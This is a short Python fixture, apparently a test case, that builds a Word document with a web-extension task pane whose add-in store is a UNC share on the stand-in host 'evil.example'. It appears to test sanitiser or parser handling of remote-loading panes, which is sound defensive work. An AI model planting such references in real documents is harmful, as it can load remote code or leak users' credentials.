# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit
from recipes_ooxml import *

NAMESPACE = 'http://schemas.microsoft.com/office/webextensions/'
emit(docx(paragraph('KEPT'), root_rels=[('rId7', 'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes', 'word/webextensions/taskpanes.xml')],
          parts={'word/webextensions/taskpanes.xml': f'<wetp:taskpanes xmlns:wetp="{NAMESPACE}taskpanes/2010/11" {R}><wetp:taskpane dockstate="right" visibility="1" width="350" row="0">'
                 '<wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>',
                 'word/webextensions/_rels/taskpanes.xml.rels': relationships([('rId1', 'http://schemas.microsoft.com/office/2011/relationships/webextension', 'webextension1.xml')]),
                 'word/webextensions/webextension1.xml': f'<we:webextension xmlns:we="{NAMESPACE}webextension/2010/11" id="OOX11-PANE-MARK"><we:reference id="x" store="\\\\evil.example\\share" storeType="Filesystem"/></we:webextension>'},
          types={'word/webextensions/taskpanes.xml': 'application/vnd.ms-office.webextensiontaskpanes+xml',
                 'word/webextensions/webextension1.xml': 'application/vnd.ms-office.webextension+xml'}))
